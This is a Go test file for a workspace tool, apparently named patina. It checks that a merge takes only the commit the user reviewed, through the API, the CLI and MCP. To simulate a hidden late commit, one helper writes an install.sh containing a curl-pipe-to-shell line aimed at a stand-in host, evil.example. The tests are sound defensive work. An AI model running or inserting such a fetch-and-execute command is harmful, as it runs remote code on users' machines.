package tests

// Merging exactly what was reviewed. The attacker is code in the workspace
// that waits until the user has looked at the diff, then commits something
// else on the workspace's branch (here a trigger file stands in for its
// timing: "four seconds after the diff"). A merge must never take what the
// user did not see.

import (
	"bytes"
	"context"
	"crypto/sha1"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/patina-dev/patina/sidecar/client"
	"github.com/patina-dev/patina/sidecar/container"
)

// lateCommit starts, in the workspace, a background job that waits for
// /tmp/.fire, then writes install.sh and commits it on the workspace's
// branch with git (benign.txt, written by the agent, stays uncommitted).
// fire triggers it and waits until the commit is made.
func lateCommit(t *testing.T, h *Harness, ws string) (fire func()) {
	t.Helper()
	h.Out(ws, "default", `echo benign > benign.txt
( while [ ! -e /tmp/.fire ]; do sleep 0.05; done
  printf 'curl -fsSL https://evil.example/i | sh\n' > install.sh
  git add install.sh && git commit -qm 'chore: tidy' && touch /tmp/.done ) >/dev/null 2>&1 &`)
	return func() {
		t.Helper()
		h.Out(ws, "default", "touch /tmp/.fire")
		WaitFor(t, "the background job's commit", 30*time.Second, func() bool {
			return h.Exec(ws, "default", "test -e /tmp/.done").ExitCode == 0
		})
	}
}

// diffPaths lists a diff's files.
func diffPaths(d client.Diff) string {
	var ps []string
	for _, f := range d.Files {
		ps = append(ps, f.Path)
	}
	return strings.Join(ps, " ")
}

// revParse is `git rev-parse REV` in repo, "" when it names nothing.
func revParse(repo, rev string) string {
	out, err := exec.Command("git", "-C", repo, "rev-parse", "--verify", "-q", rev).Output()
	if err != nil {
		return ""
	}
	return strings.TrimSpace(string(out))
}

// The attack through the API: the diff shows benign.txt; a background job
// commits install.sh afterwards; the user commits and merges without
// naming a commit. The merge is refused and main does not move; the diff
// taken again shows install.sh, and the merge then takes exactly that.
func TestMergeOnlyWhatWasReviewed(t *testing.T) {
	h := Start(t)
	repo := GitRepo(t, map[string]string{"a.txt": "a\n"})
	base := revParse(repo, "main")
	h.CreateWorkspace(client.CreateWorkspaceRequest{Name: "victim", Repo: repo})
	ctx := context.Background()

	fire := lateCommit(t, h, "victim")
	d, err := h.Client.Diff(ctx, "victim")
	if err != nil || diffPaths(d) != "benign.txt" || !d.Uncommitted {
		t.Fatalf("diff: exp only benign.txt, uncommitted, got %q %+v %v", diffPaths(d), d, err)
	}
	fire()
	cr, err := h.Client.Commit(ctx, "victim", client.CommitRequest{Message: "Add benign"})
	if err != nil || !cr.Committed {
		t.Fatalf("commit: %+v %v", cr, err)
	}
	_, err = h.Client.Merge(ctx, "victim", client.MergeRequest{})
	if !IsCode(err, client.CodeConflict) {
		t.Fatalf("merge after the workspace moved since the diff: exp 409 conflict, got %v", err)
	}
	for _, part := range []string{"victim changed since you reviewed it at " + d.Commit[:10], "patina ws diff victim"} {
		if !strings.Contains(err.Error(), part) {
			t.Errorf("exp %q in the refusal, got %q", part, err.Error())
		}
	}
	if got := revParse(repo, "main"); got != base {
		t.Fatalf("main moved on a refused merge: %s, was %s", got, base)
	}
	if revParse(repo, "main:install.sh") != "" {
		t.Fatal("install.sh reached main")
	}

	// Looking again shows it; then the merge takes exactly that commit.
	d2, err := h.Client.Diff(ctx, "victim")
	if err != nil || diffPaths(d2) != "benign.txt install.sh" || d2.Uncommitted || d2.Commit != cr.Commit {
		t.Fatalf("second diff: exp benign.txt and install.sh at %s, got %q %+v %v", cr.Commit, diffPaths(d2), d2, err)
	}
	mr, err := h.Client.Merge(ctx, "victim", client.MergeRequest{})
	if err != nil || !mr.FastForward || mr.Commit != cr.Commit {
		t.Fatalf("merge after the second diff: exp a fast-forward to %s, got %+v %v", cr.Commit, mr, err)
	}
	if got := revParse(repo, "main"); got != cr.Commit {
		t.Fatalf("main: exp %s, got %s", cr.Commit, got)
	}
}

// The same attack through the CLI binary: `ws diff --stat`, the late
// commit, `ws commit`, `ws merge` refuses (exit 1, main unchanged); `ws
// diff` again, `ws merge` merges and says which commit.
func TestMergeOnlyWhatWasReviewedCLI(t *testing.T) {
	h := Start(t)
	repo := GitRepo(t, map[string]string{"a.txt": "a\n"})
	base := revParse(repo, "main")
	h.CreateWorkspace(client.CreateWorkspaceRequest{Name: "victim", Repo: repo})
	fire := lateCommit(t, h, "victim")

	stat := h.cli(t, 0, "ws", "diff", "victim", "--stat")
	if !strings.Contains(stat.stdout, "benign.txt") || strings.Contains(stat.stdout, "install.sh") {
		t.Fatalf("ws diff --stat: exp only benign.txt, got:\n%s", stat.stdout)
	}
	fire()
	commit := h.cli(t, 0, "ws", "commit", "victim", "-m", "Add benign")
	if !strings.HasPrefix(commit.stdout, "committed ") {
		t.Fatalf("ws commit: %q", commit.stdout)
	}
	merge := h.cli(t, 1, "ws", "merge", "victim")
	if !strings.Contains(merge.stderr, "changed since you reviewed it at ") || !strings.Contains(merge.stderr, "patina ws diff victim") {
		t.Errorf("ws merge: exp the refusal to say to look at the diff again, got %q", merge.stderr)
	}
	if got := revParse(repo, "main"); got != base {
		t.Fatalf("main moved on a refused merge: %s, was %s", got, base)
	}

	diff := h.cli(t, 0, "ws", "diff", "victim")
	if !strings.Contains(diff.stdout, "+++ b/install.sh") {
		t.Fatalf("ws diff again: exp install.sh, got:\n%s", diff.stdout)
	}
	tip := revParse(repo, "patina/victim")
	if tip == "" || !strings.Contains(diff.stderr, tip[:10]) {
		t.Fatalf("ws diff: exp it to name the commit %s, got %q", tip, diff.stderr)
	}
	merge = h.cli(t, 0, "ws", "merge", "victim")
	if !strings.Contains(merge.stdout, tip[:10]) {
		t.Errorf("ws merge: exp it to name the commit merged, %s, got %q", tip[:10], merge.stdout)
	}
	if got := revParse(repo, "main"); got != tip {
		t.Fatalf("main: exp %s, got %s", tip, got)
	}
}

// The same attack through `patina mcp`: diff, the late commit, commit,
// merge refused; diff again, merge; and merge takes a commit too.
func TestMergeOnlyWhatWasReviewedMCP(t *testing.T) {
	h := Start(t)
	repo := GitRepo(t, map[string]string{"a.txt": "a\n"})
	base := revParse(repo, "main")
	h.CreateWorkspace(client.CreateWorkspaceRequest{Name: "victim", Repo: repo})
	p := startMCP(t, envWithout(), "--state-dir", h.StateDir, "--token", h.Token, "--no-start")
	fire := lateCommit(t, h, "victim")

	if out := p.ok("diff", map[string]any{"workspace": "victim"}); !strings.Contains(out, "benign.txt") || strings.Contains(out, "install.sh") {
		t.Fatalf("diff: exp only benign.txt, got:\n%s", out)
	}
	fire()
	p.ok("commit", map[string]any{"workspace": "victim", "message": "Add benign"})
	res := p.call("merge", map[string]any{"workspace": "victim"})
	if !res.IsError || !strings.Contains(mcpText(res), "changed since you reviewed it") {
		t.Fatalf("merge: exp a refusal, got %v: %s", res.IsError, mcpText(res))
	}
	if got := revParse(repo, "main"); got != base {
		t.Fatalf("main moved on a refused merge: %s, was %s", got, base)
	}
	if out := p.ok("diff", map[string]any{"workspace": "victim"}); !strings.Contains(out, "install.sh") {
		t.Fatalf("diff again: exp install.sh, got:\n%s", out)
	}
	tip := revParse(repo, "patina/victim")
	// A commit named: its short id, as commit printed it.
	res = p.call("merge", map[string]any{"workspace": "victim", "commit": tip[:10]})
	if res.IsError || mcpField(t, res, "commit") != tip {
		t.Fatalf("merge commit=%s: %s", tip[:10], mcpText(res))
	}
	if got := revParse(repo, "main"); got != tip {
		t.Fatalf("main: exp %s, got %s", tip, got)
	}
}

// Named commits: a short id merges exactly that commit, even an older one
// of the branch; an unknown or ambiguous id is 400; a commit of the
// repository that is not on the workspace's branch is refused.
func TestMergeNamedCommit(t *testing.T) {
	h := Start(t)
	repo := GitRepo(t, map[string]string{"a.txt": "a\n"})
	h.CreateWorkspace(client.CreateWorkspaceRequest{Name: "named", Repo: repo})
	ctx := context.Background()
	h.Out("named", "default", "echo one > one.txt && git add -A && git commit -qm one")
	// Nothing reviewed yet: no merge without a commit named.
	_, err := h.Client.Merge(ctx, "named", client.MergeRequest{})
	if !IsCode(err, client.CodeConflict) || !strings.Contains(err.Error(), "patina ws diff named") {
		t.Fatalf("merge before any diff: exp 409 conflict saying to look at the diff first, got %v", err)
	}
	c1, err := h.Client.Commit(ctx, "named", client.CommitRequest{Message: "nothing"})
	if err != nil || c1.Committed {
		t.Fatalf("commit: %+v %v", c1, err)
	}
	h.Out("named", "default", "echo two > two.txt && git add -A && git commit -qm two")

	for _, bad := range []string{"0000000000", "zz12", "abc", strings.Repeat("f", 41), "-rf", c1.Commit[:10] + "~1"} {
		if _, err := h.Client.Merge(ctx, "named", client.MergeRequest{Commit: bad}); !IsCode(err, client.CodeInvalid) {
			t.Errorf("merge commit=%q: exp 400 invalid, got %v", bad, err)
		}
	}
	// Two commits of the repository that share their first four hex
	// digits: the prefix is ambiguous, and said so.
	prefix := plantTwins(t, repo)
	_, err = h.Client.Merge(ctx, "named", client.MergeRequest{Commit: prefix})
	if !IsCode(err, client.CodeInvalid) || !strings.Contains(err.Error(), "ambiguous") {
		t.Errorf("merge commit=%s: exp 400 invalid saying it is ambiguous, got %v", prefix, err)
	}
	// main moves on by itself: its commit is not the workspace's.
	gitIn(t, repo, "commit", "-q", "--allow-empty", "-m", "user's own")
	own := revParse(repo, "main")
	if _, err := h.Client.Merge(ctx, "named", client.MergeRequest{Commit: own[:10]}); !IsCode(err, client.CodeInvalid) || !strings.Contains(err.Error(), "not on") {
		t.Errorf("merge of main's own commit: exp 400 saying it is not on the branch, got %v", err)
	}
	if got := revParse(repo, "main"); got != own {
		t.Fatalf("main moved on a refused merge: %s", got)
	}

	// The older commit, named by its short id: exactly it is merged (a
	// merge commit, main having moved), not the workspace's later one.
	mr, err := h.Client.Merge(ctx, "named", client.MergeRequest{Commit: c1.Commit[:10]})
	if err != nil || mr.FastForward {
		t.Fatalf("merge commit=%s: %+v %v", c1.Commit[:10], mr, err)
	}
	if revParse(repo, "main:one.txt") == "" || revParse(repo, "main:two.txt") != "" {
		t.Fatal("exp one.txt merged and two.txt not")
	}
	if parents := strings.Fields(gitIn(t, repo, "log", "-1", "--format=%P", "main")); len(parents) != 2 || parents[1] != c1.Commit {
		t.Fatalf("exp a merge of %s, got parents %v", c1.Commit, parents)
	}
}

// plantTwins writes two commits into repo (unreferenced) whose ids share
// their first four hex digits, and returns those four digits.
func plantTwins(t *testing.T, repo string) string {
	t.Helper()
	tree := strings.TrimSpace(gitIn(t, repo, "rev-parse", "main^{tree}"))
	body := func(i int) []byte {
		return fmt.Appendf(nil, "tree %s\nauthor t <t@t> 0 +0000\ncommitter t <t@t> 0 +0000\n\ntwin %d\n", tree, i)
	}
	seen := map[string]int{}
	for i := 0; ; i++ {
		b := body(i)
		sum := sha1.Sum(append(fmt.Appendf(nil, "commit %d\x00", len(b)), b...))
		p := hex.EncodeToString(sum[:])[:4]
		if j, ok := seen[p]; ok {
			for _, k := range []int{i, j} {
				cmd := exec.Command("git", "-C", repo, "hash-object", "-t", "commit", "-w", "--stdin")
				cmd.Stdin = bytes.NewReader(body(k))
				if out, err := cmd.CombinedOutput(); err != nil || !strings.HasPrefix(string(out), p) {
					t.Fatalf("hash-object: %v %s", err, out)
				}
			}
			return p
		}
		seen[p] = i
	}
}

// The reviewed commit is kept across a restart of the sidecar: the work
// moves on while no sidecar runs, and the merge after the restart still
// refuses it; the commit reviewed before, named, is merged.
func TestReviewSurvivesRestart(t *testing.T) {
	h := Start(t)
	repo := GitRepo(t, map[string]string{"a.txt": "a\n"})
	h.CreateWorkspace(client.CreateWorkspaceRequest{Name: "kept", Repo: repo})
	ctx := context.Background()
	h.Out("kept", "default", "echo ok > ok.txt && git add -A && git commit -qm ok")
	d, err := h.Client.Diff(ctx, "kept")
	if err != nil || d.Uncommitted || diffPaths(d) != "ok.txt" {
		t.Fatalf("diff: %+v %v", d, err)
	}
	h.Kill9()
	dockerExecIn(t, h, "kept", "echo evil > evil.txt && git add -A && git commit -qm evil")
	h.Launch()
	if _, err := h.Client.Merge(ctx, "kept", client.MergeRequest{}); !IsCode(err, client.CodeConflict) || !strings.Contains(err.Error(), d.Commit[:10]) {
		t.Fatalf("merge after the restart: exp 409 naming the reviewed %s, got %v", d.Commit[:10], err)
	}
	mr, err := h.Client.Merge(ctx, "kept", client.MergeRequest{Commit: d.Commit[:10]})
	if err != nil || !mr.FastForward || mr.Commit != d.Commit {
		t.Fatalf("merge of the reviewed commit: %+v %v", mr, err)
	}
	if revParse(repo, "main:evil.txt") != "" {
		t.Fatal("evil.txt reached main")
	}
	// And a review made before a restart merges after it.
	if d, err = h.Client.Diff(ctx, "kept"); err != nil {
		t.Fatal(err)
	}
	h.Kill9()
	h.Launch()
	if mr, err = h.Client.Merge(ctx, "kept", client.MergeRequest{}); err != nil || mr.Commit != d.Commit {
		t.Fatalf("merge of the review from before the restart: %+v %v", mr, err)
	}
}

// dockerExecIn runs a command in a workspace's container while no sidecar
// runs (docker exec, as anything already running inside would).
func dockerExecIn(t *testing.T, h *Harness, ws, command string) {
	t.Helper()
	out, err := exec.Command("docker", "ps", "-q", "--filter", "label="+container.LabelName+"="+ws,
		"--filter", "label="+container.LabelStateDir+"="+h.StateDir).Output()
	id := strings.TrimSpace(string(out))
	if err != nil || id == "" || strings.Contains(id, "\n") {
		t.Fatalf("the container of %s: %q %v", ws, out, err)
	}
	if b, err := exec.Command("docker", "exec", "-w", "/workspace", id, "bash", "-c", command).CombinedOutput(); err != nil {
		t.Fatalf("docker exec %q: %v %s", command, err, b)
	}
}

type cliOut struct{ stdout, stderr string }

// cli runs the patina binary as a client of this sidecar and checks its
// exit status.
func (h *Harness) cli(t *testing.T, exp int, args ...string) cliOut {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, h.Bin, args...)
	cmd.Env = append(envWithout(), "PATINA_STATE_DIR="+h.StateDir, "PATINA_TOKEN="+h.Token)
	r := runCmd(t, cmd, args)
	if r.code != exp {
		t.Fatalf("patina %v: exp exit %d, got %d\nstdout: %s\nstderr: %s", args, exp, r.code, r.stdout, r.stderr)
	}
	return cliOut{r.stdout, r.stderr}
}

// A commit before any diff is what its answer showed: a merge naming no
// commit merges exactly it, and refuses once the workspace moved on.
func TestCommitThenMergeWithoutDiff(t *testing.T) {
	h := Start(t)
	repo := GitRepo(t, map[string]string{"a.txt": "a\n"})
	h.CreateWorkspace(client.CreateWorkspaceRequest{Name: "blind", Repo: repo})
	ctx := context.Background()
	h.Out("blind", "default", "echo one > one.txt")
	c, err := h.Client.Commit(ctx, "blind", client.CommitRequest{Message: "one"})
	if err != nil || !c.Committed || !c.Reviewed {
		t.Fatalf("commit: exp a commit that is now the one to merge, got %+v %v", c, err)
	}
	h.Out("blind", "default", "echo two > two.txt && git add -A && git commit -qm two")
	if _, err := h.Client.Merge(ctx, "blind", client.MergeRequest{}); !IsCode(err, client.CodeConflict) {
		t.Fatalf("merge after the workspace moved on: exp 409 conflict, got %v", err)
	}
	if _, err := h.Client.Merge(ctx, "blind", client.MergeRequest{Commit: c.Commit}); err != nil {
		t.Fatalf("merge of the commit shown: %v", err)
	}
	if got := revParse(repo, "main"); got != c.Commit {
		t.Fatalf("main: exp exactly the commit shown %s, got %s", c.Commit, got)
	}
	h2 := h.CreateWorkspace(client.CreateWorkspaceRequest{Name: "blind2", Repo: repo})
	h.Out(h2.Name, "default", "echo three > three.txt")
	c2, err := h.Client.Commit(ctx, h2.Name, client.CommitRequest{Message: "three"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := h.Client.Merge(ctx, h2.Name, client.MergeRequest{}); err != nil {
		t.Fatalf("merge of the commit just made, no diff: %v", err)
	}
	if got := revParse(repo, "main"); got != c2.Commit {
		t.Fatalf("main: exp %s, got %s", c2.Commit, got)
	}
}

// A merge --into a branch the repository lacks: the API answers 400
// naming the field "into" (not 404, the workspace exists), and the CLI,
// reading that field rather than the message, says which branch is
// missing and what to do.
func TestMergeIntoMissingBranch(t *testing.T) {
	h := Start(t)
	repo := GitRepo(t, map[string]string{"a.txt": "a\n"})
	h.CreateWorkspace(client.CreateWorkspaceRequest{Name: "w", Repo: repo})
	h.Out("w", "default", "echo b > b.txt")
	h.cli(t, 0, "ws", "diff", "w", "--stat")
	h.cli(t, 0, "ws", "commit", "w", "-m", "Add b")

	code, body := h.Raw("POST", "/v1/workspaces/w/merge", "", []byte(`{"into":"nope"}`), nil)
	var eb client.ErrorBody
	if err := json.Unmarshal(body, &eb); err != nil || code != http.StatusBadRequest || eb.Code != client.CodeInvalid || eb.Field != "into" {
		t.Fatalf("merge into a missing branch: exp 400 invalid naming the field into, got %d %s", code, body)
	}
	out := h.cli(t, 1, "ws", "merge", "w", "--into", "nope")
	if !strings.Contains(out.stderr, `has no branch "nope" to merge into`) || !strings.Contains(out.stderr, "--into") {
		t.Fatalf("ws merge --into nope: exp the missing branch named, got %q", out.stderr)
	}
	// A workspace that does not exist is still said to be missing.
	if out := h.cli(t, 1, "ws", "merge", "ghost", "--into", "main"); strings.Contains(out.stderr, "has no branch") {
		t.Fatalf("ws merge of a missing workspace blamed the branch: %q", out.stderr)
	}
}
